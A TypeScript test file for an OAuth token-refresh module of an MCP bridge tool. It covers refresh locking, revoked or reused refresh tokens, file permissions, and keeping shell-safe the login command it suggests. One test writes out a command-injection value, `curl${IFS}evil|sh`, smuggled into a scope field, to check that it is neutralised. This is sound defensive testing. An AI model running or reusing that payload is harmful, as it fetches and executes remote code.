// Logins as runs use them, at a real authorization server: what is refreshed, by whom, and when a person is needed.

import { chmodSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import { beforeEach, describe, expect, it, onTestFinished, vi } from 'vitest';
import { BridgeError } from '../../../src/base/errors.js';
import { Redactor } from '../../../src/base/secrets/redact.js';
import { Logins } from '../../../src/servers/login/logins.js';
import { type Login, TokenStore } from '../../../src/servers/login/token-store.js';
import { LoginNeeded, LoginTrouble, type ServerLogin } from '../../../src/servers/remote/login-needed.js';
import { auth, server, useOAuthServers } from '../../support/oauth-servers.js';
import { COMMAND, kept, person } from './person.js';
import { hints, remoteSpec } from './remote-spec.js';
import { stateDir, store, useTokenFolder } from './token-folder.js';

const { signal } = new AbortController();

let redactor: Redactor;

useOAuthServers();
useTokenFolder();
beforeEach(() => {
  redactor = new Redactor();
  auth.accessSeconds = 3600;
  auth.isDown = false;
  auth.onRequest = () => {};
});

/** What one bridge knows of the login. */
function bridge(some: Parameters<typeof remoteSpec>[1] = {}): ServerLogin {
  const login = new Logins(stateDir, redactor).of(remoteSpec(server.url, some));
  if (login === undefined) throw new Error('no login');
  return login;
}

const changed = (some: Partial<Login>) => store.write({ ...kept(), ...some });
const tokenRequests = () => auth.requests.filter((request) => request === 'POST /token').length;

async function isTaken(token: string | undefined): Promise<boolean> {
  const { status } = await fetch(server.url, { headers: { authorization: `Bearer ${token}` } });
  return status !== 401;
}

it('a server whose entry says how it is logged in takes none of ours', () => {
  const logins = new Logins(stateDir, redactor);
  expect(logins.of(remoteSpec(server.url, { oauth: false }))).toBeUndefined();
  expect(logins.of(remoteSpec(server.url, { headers: { Authorization: 'Basic eDp5' } }))).toBeUndefined();
});

it('without a login there is no token, and a refusal says the command', async () => {
  expect(await bridge().token(signal)).toBeUndefined();
  await expect(bridge().renew(undefined, signal)).rejects.toMatchObject({
    reason: 'it wants a login',
    remedy: COMMAND,
  });
});

it('a login is there for a bridge that runs already', async () => {
  const running = bridge();
  expect(await running.token(signal)).toBeUndefined();
  const { accessToken } = await person(redactor);
  expect(await running.token(signal)).toBe(accessToken);
  expect(redactor.redact(`sent ${accessToken}`)).toBe('sent [access token of linear]');
});

it('an access token that has really ended is refreshed before it is sent', async () => {
  auth.accessSeconds = 1;
  const { accessToken } = await person(redactor);
  await sleep(1_050);
  auth.accessSeconds = 3600;
  expect(await isTaken(accessToken)).toBe(false);
  const token = await bridge().token(signal);
  expect(token).not.toBe(accessToken);
  expect(await isTaken(token)).toBe(true);
  expect(kept()).toMatchObject({ accessToken: token, resource: server.url, scopes: ['mcp:tools'] });
});

it('an access token that the server refuses early is refreshed once, for all who were refused', async () => {
  const { accessToken } = await person(redactor);
  await auth.drop(accessToken);
  const before = tokenRequests();
  const one = bridge();
  await Promise.all([
    one.renew(accessToken, signal),
    one.renew(accessToken, signal),
    one.renew(accessToken, signal),
  ]);
  expect(await isTaken(await one.token(signal))).toBe(true);
  expect(tokenRequests() - before).toBe(1);
});

it('two bridges do not spend the same refresh token', async () => {
  await person(redactor);
  for (let round = 0; round < 3; round++) {
    changed({ expiresAtMs: Date.now() - 1 });
    const before = tokenRequests();
    const tokens = await Promise.all([
      bridge().token(signal),
      bridge().token(signal),
      bridge().token(signal),
    ]);
    expect(new Set(tokens).size).toBe(1);
    expect(await isTaken(tokens[0])).toBe(true);
    expect(tokenRequests() - before).toBe(1);
  }
});

it('the control: a refresh token that is used twice ends the login for everybody', async () => {
  const first = await person(redactor);
  await bridge().renew(first.accessToken, signal);
  const second = kept();
  expect(await isTaken(second.accessToken)).toBe(true);
  store.write({ ...first, expiresAtMs: Date.now() - 1 });
  await expect(bridge().token(signal)).rejects.toBeInstanceOf(LoginNeeded);
  expect(await isTaken(second.accessToken)).toBe(false);
});

it('a refresh token that is spent is no loss where a newer login has been kept meanwhile', async () => {
  const spent = await person(redactor);
  await auth.revoke(spent.refreshToken ?? '', { id: spent.client.client_id });
  const newer = await person(redactor);
  store.write({ ...spent, expiresAtMs: Date.now() - 1 });
  auth.onRequest = (request) => {
    if (request === 'POST /token') store.write(newer);
  };
  expect(await bridge().token(signal)).toBe(newer.accessToken);
});

describe('a person is needed', () => {
  it('when the refresh token was revoked; the tokens are forgotten', async () => {
    const { refreshToken = '', client } = await person(redactor);
    await auth.revoke(refreshToken, { id: client.client_id });
    changed({ expiresAtMs: Date.now() - 1 });
    await expect(bridge().token(signal)).rejects.toMatchObject({
      reason: 'its login has ended',
      remedy: COMMAND,
    });
    expect(store.read(server.url)).toEqual({ state: 'absent' });
  });

  it('when there is no refresh token', async () => {
    await person(redactor);
    const { refreshToken: _none, ...login } = kept();
    store.write(login);
    await expect(bridge().renew(login.accessToken, signal)).rejects.toBeInstanceOf(LoginNeeded);
  });

  it('when the entry has another client now', async () => {
    await person(redactor);
    expect(await bridge({ oauth: hints({ clientId: 'another' }) }).token(signal)).toBeUndefined();
  });

  it('when the file is open to others; it says which', async () => {
    await person(redactor);
    chmodSync(store.fileOf(server.url), 0o644);
    expect(await bridge().token(signal)).toBeUndefined();
    await expect(bridge().renew(undefined, signal)).rejects.toMatchObject({
      reason: `it wants a login; the saved one is not used, because ${store.fileOf(server.url)} can be read or written by other users`,
      remedy: COMMAND,
    });
  });

  it('when the server asks for more; the command asks for it', () => {
    const challenge = 'Bearer error="insufficient_scope", scope="mcp:tools mcp:admin"';
    expect(bridge().onRefused({ status: 403, challenge })).toMatchObject({
      reason: 'it asks for more than its login was granted',
      remedy: "Run `mcp-sandbox-bridge login linear --scope 'mcp:tools mcp:admin'` in a terminal.",
    });
    const hostile = `Bearer error="insufficient_scope", scope="x';curl\${IFS}evil|sh;'"`;
    expect(bridge().onRefused({ status: 403, challenge: hostile })).toMatchObject({ remedy: COMMAND });
  });

  it('when a fresh token is refused, but not for a 403 of another kind', () => {
    expect(bridge().onRefused({ status: 401, challenge: undefined })).toMatchObject({ remedy: COMMAND });
    expect(bridge().onRefused({ status: 403, challenge: undefined })).toBeUndefined();
  });

  it('whose server has a name that a shell would take apart', async () => {
    const named = bridge({ name: "my $(server)'s" });
    await expect(named.renew(undefined, signal)).rejects.toMatchObject({
      remedy: "Run `mcp-sandbox-bridge login 'my $(server)'\\''s'` in a terminal.",
    });
  });
});

it('nothing is refreshed that could not be kept', async () => {
  const { refreshToken } = await person(redactor);
  changed({ expiresAtMs: Date.now() - 1 });
  const before = tokenRequests();
  // A test that runs as root can close no folder to itself.
  const fails = vi.spyOn(TokenStore.prototype, 'lock').mockRejectedValue(
    new BridgeError('E_STATE', 'Logins cannot be kept in /x: read-only.', {
      fault: 'operator',
      remedy: 'Set it.',
    }),
  );
  await expect(bridge().token(signal)).rejects.toMatchObject({
    reason: 'its login cannot be refreshed: Logins cannot be kept in /x: read-only',
    remedy: 'Set it.',
  });
  fails.mockRestore();
  expect(tokenRequests()).toBe(before);
  expect(kept().refreshToken).toBe(refreshToken);
});

describe('an issuer that does not answer', () => {
  it('costs nothing as long as the access token is good', async () => {
    const { accessToken } = await person(redactor);
    // It grows no older, however long this takes.
    vi.useFakeTimers({ toFake: ['Date'], now: Date.now() });
    onTestFinished(() => void vi.useRealTimers());
    changed({ obtainedAtMs: Date.now() - 3_600_000, expiresAtMs: Date.now() + 10_000 });
    auth.isDown = true;
    expect(await bridge().token(signal)).toBe(accessToken);
  });

  it('is told as such, and the login is kept', async () => {
    const { refreshToken } = await person(redactor);
    changed({ expiresAtMs: Date.now() - 1 });
    auth.isDown = true;
    const thrown = await bridge()
      .token(signal)
      .catch((error: unknown) => error);
    expect(thrown).toBeInstanceOf(LoginTrouble);
    expect(thrown).not.toBeInstanceOf(LoginNeeded);
    expect(thrown).toMatchObject({
      reason: expect.stringContaining('its login could not be refreshed: HTTP 503'),
      remedy: `If it stays so: ${COMMAND}`,
    });
    auth.isDown = false;
    expect(kept().refreshToken).toBe(refreshToken);
    expect(await isTaken(await bridge().token(signal))).toBe(true);
  });
});
